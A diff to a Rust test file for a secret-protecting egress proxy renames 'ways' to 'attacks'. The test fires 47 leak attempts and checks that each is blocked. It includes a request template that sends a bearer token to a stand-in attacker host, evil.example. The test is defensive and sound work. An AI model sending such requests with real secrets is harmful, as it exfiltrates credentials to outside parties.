@@ -1,29 +1,29 @@
-//! A hostile program tries to steal the value. Each way is listed with its result; none may succeed, and each check that is
-//! switched off lets at least one through.
+//! A hostile program tries to steal the value of a secret. None of the listed attacks may succeed. If any check is
+//! disabled, at least one attack succeeds.
 
-use super::world::{VALUE, World, talk};
-use lango_net::{Check, Reason};
+use super::setup::{TestSetup, VALUE, exchange};
+use lango_net::{Check, RefusalReason};
 use lango_secrets::{Masks, SecretValue};
 
-/// A request over the tunnel to the bound server, unless the way says otherwise.
-enum Way {
-    /// To the bound server.
+/// An attack: the request, and how it is sent.
+enum Attack {
+    /// To the bound server, over TLS.
     Request(&'static str),
-    /// To the attacker's server over TLS.
+    /// To the attacker's server, over TLS.
     Evil(&'static str),
-    /// Through the tunnel for a target, with a TLS server name.
+    /// Through a tunnel to a target, with a TLS server name.
     Tunnel(&'static str, &'static str, &'static str),
-    /// In the tunnel without TLS.
+    /// Through a tunnel to a target, without TLS.
     Plain(&'static str, &'static str),
     /// To the proxy itself, in absolute form.
     Forward(&'static str),
 }
-use Way::{Evil, Forward, Plain, Request, Tunnel};
+use Attack::{Evil, Forward, Plain, Request, Tunnel};
 
 const BEARER: &str = "Authorization: Bearer {P}\r\n";
 
-/// The name of each way, the way, and whether it reaches a server at all.
-const WAYS: [(&str, Way); 47] = [
+/// The attacks and their names.
+const ATTACKS: [(&str, Attack); 47] = [
     (
         "other host",
         Evil("GET / HTTP/1.1\r\nHost: {E}\r\nAuthorization: Bearer {P}\r\n\r\n"),
@@ -239,97 +239,97 @@ const WAYS: [(&str, Way); 47] = [
     ),
 ];
 
-/// What a way led to.
+/// The outcome of an attack.
 struct Outcome {
     received: String,
-    /// What the attacker got, if anything.
+    /// How the attack succeeded, if it did.
     stolen: Option<&'static str>,
 }
 
-async fn attempt(world: &World, way: &Way) -> Outcome {
+async fn attempt(setup: &TestSetup, attack: &Attack) -> Outcome {
     let fill = |text: &str| {
-        let digest = world.placeholder.trim_start_matches("lango_secret_");
+        let digest = setup.placeholder.trim_start_matches("lango_secret_");
         let text = text.replace("{B}", BEARER).replace("{D}", digest);
         let text = text
-            .replace("{E}", &format!("evil.example:{}", world.evil.secure))
-            .replace("{e}", &world.evil.secure.to_string())
-            .replace("{a}", &world.api.secure.to_string())
-            .replace("{ep}", &world.evil.plain.to_string())
-            .replace("{ap}", &world.api.plain.to_string());
-        // A connection that stays open would only be waited for.
+            .replace("{E}", &format!("evil.example:{}", setup.evil.secure))
+            .replace("{e}", &setup.evil.secure.to_string())
+            .replace("{a}", &setup.api.secure.to_string())
+            .replace("{ep}", &setup.evil.plain.to_string())
+            .replace("{ap}", &setup.api.plain.to_string());
+        // Close the connection, so that the test need not wait for a timeout.
         let text = text.replacen("\r\nHost:", "\r\nConnection: close\r\nHost:", 1);
-        world.filled(&text)
+        setup.fill(&text)
     };
-    let api = format!("api.example:{}", world.api.secure);
-    let evil = format!("evil.example:{}", world.evil.secure);
+    let api = format!("api.example:{}", setup.api.secure);
+    let evil = format!("evil.example:{}", setup.evil.secure);
     let over_tls =
-        async |target: &str, name: &str, request: &str| match world.connect(target, name).await {
-            Ok(stream) => talk(stream, request.as_bytes()).await,
+        async |target: &str, name: &str, request: &str| match setup.connect(target, name).await {
+            Ok(stream) => exchange(stream, request.as_bytes()).await,
             Err(error) => format!("not connected: {error}"),
         };
-    world.api.log.lock().unwrap().clear();
-    let received = match way {
+    setup.api.log.lock().unwrap().clear();
+    let received = match attack {
         Request(request) => over_tls(&api, "api.example", &fill(request)).await,
         Evil(request) => over_tls(&evil, "evil.example", &fill(request)).await,
         Tunnel(target, name, request) => over_tls(&fill(target), name, &fill(request)).await,
-        Plain(target, request) => match world.tunnel(&fill(target)).await {
-            Ok(stream) => talk(stream, fill(request).as_bytes()).await,
+        Plain(target, request) => match setup.tunnel(&fill(target)).await {
+            Ok(stream) => exchange(stream, fill(request).as_bytes()).await,
             Err(error) => format!("not connected: {error}"),
         },
-        Forward(request) => crate::proxy::say(world.proxy, &fill(request)).await,
+        Forward(request) => crate::proxy::exchange(setup.proxy, &fill(request)).await,
     };
-    let stolen = judge(world, &received);
+    let stolen = find_leak(setup, &received);
     Outcome { received, stolen }
 }
 
-fn judge(world: &World, received: &str) -> Option<&'static str> {
+fn find_leak(setup: &TestSetup, received: &str) -> Option<&'static str> {
     let masks = Masks::default();
     masks.add("VALUE", &SecretValue::new(VALUE));
     let contains = |text: &str| {
         let mut stream = masks.stream();
         stream.push(text.as_bytes());
         stream.finish();
-        // The first characters are enough for a guess of the rest.
+        // The first characters alone count as a leak, too.
         stream.echoes() > 0 || text.contains(&VALUE[..8])
     };
-    let api = world.api.log();
-    let elsewhere = api
+    let api = setup.api.log();
+    let other_lines = api
         .lines()
         .filter(|line| !line.starts_with("authorization: "));
-    let elsewhere: Vec<&str> = elsewhere.collect();
+    let other_lines: Vec<&str> = other_lines.collect();
     let echo = format!("you sent Bearer {VALUE}, thank you");
     if contains(received) {
-        Some("the value came back")
+        Some("the program received the value")
     } else if received.contains(&format!("content-length: {}", echo.len())) {
-        Some("its length came back")
-    } else if contains(&world.evil.log()) {
+        Some("the program received the length of the value")
+    } else if contains(&setup.evil.log()) {
         Some("the attacker's server got the value")
-    } else if contains(&elsewhere.join("\n")) {
-        Some("the value is at another place of the request")
-    } else if world.evil.log().contains("host: api.example") || api.contains("evil.example") {
-        Some("a request for one host came to the other")
-    } else if (world.evil.log() + &api).contains("lango_secret_") {
-        Some("a placeholder was sent on")
+    } else if contains(&other_lines.join("\n")) {
+        Some("the value is elsewhere in the request")
+    } else if setup.evil.log().contains("host: api.example") || api.contains("evil.example") {
+        Some("a request for one host reached the other")
+    } else if (setup.evil.log() + &api).contains("lango_secret_") {
+        Some("a placeholder was forwarded")
     } else {
         None
     }
 }
 
 #[tokio::test]
-async fn no_way_to_steal_a_value_succeeds() {
-    let world = World::new().await;
+async fn no_attack_steals_the_value() {
+    let setup = TestSetup::new().await;
     let mut stolen = Vec::new();
-    for (name, way) in &WAYS {
-        let outcome = attempt(&world, way).await;
+    for (name, attack) in &ATTACKS {
+        let outcome = attempt(&setup, attack).await;
         let first = outcome.received.lines().next().unwrap_or("nothing");
         let last = outcome.received.lines().last().unwrap_or_default();
         println!("{name:50} {first} … {last:.160}");
         stolen.extend(outcome.stolen.map(|what| (name, what)));
     }
     assert!(stolen.is_empty(), "{stolen:?}");
-    let refusals = world.handle.refusals();
+    let refusals = setup.handle.refusals();
     let places = refusals.iter().filter_map(|refusal| match &refusal.reason {
-        Reason::Placeholder { place, .. } => Some(place.as_str()),
+        RefusalReason::Placeholder { place, .. } => Some(place.as_str()),
         _ => None,
     });
     let places: Vec<&str> = places.collect();
@@ -342,35 +342,35 @@ async fn no_way_to_steal_a_value_succeeds() {
     ] {
         assert!(places.contains(&place), "{place}: {places:?}");
     }
-    let blocked = world.blocked();
+    let blocked = setup.blocked();
     let evil = format!(
         "TOKEN in the header `authorization` to evil.example:{}",
-        world.evil.secure
+        setup.evil.secure
     );
     assert!(blocked.contains(&evil), "{blocked:?}");
     let text = refusals[0].to_string();
     let allowed = format!(
         "the secret `TOKEN` was in the header `authorization`; it may only be in the header `authorization` to https://api.example:{}",
-        world.api.secure
+        setup.api.secure
     );
     assert!(text.contains(&allowed), "{text}");
 }
 
 #[tokio::test]
-async fn each_check_is_needed() {
+async fn each_check_stops_at_least_one_attack() {
     for check in [
         Check::SecretOrigin,
         Check::SecretPlace,
         Check::SecretMasks,
         Check::SecretRange,
     ] {
-        let world = World::with(|egress| egress.without(check)).await;
+        let setup = TestSetup::with(|egress| egress.without(check)).await;
         let mut stolen = Vec::new();
-        for (name, way) in &WAYS {
-            let outcome = attempt(&world, way).await;
+        for (name, attack) in &ATTACKS {
+            let outcome = attempt(&setup, attack).await;
             stolen.extend(outcome.stolen.map(|what| (*name, what)));
         }
         println!("without {check:?}: {stolen:?}");
-        assert!(!stolen.is_empty(), "{check:?} can be left out");
+        assert!(!stolen.is_empty(), "{check:?} stops no attack");
     }
 }
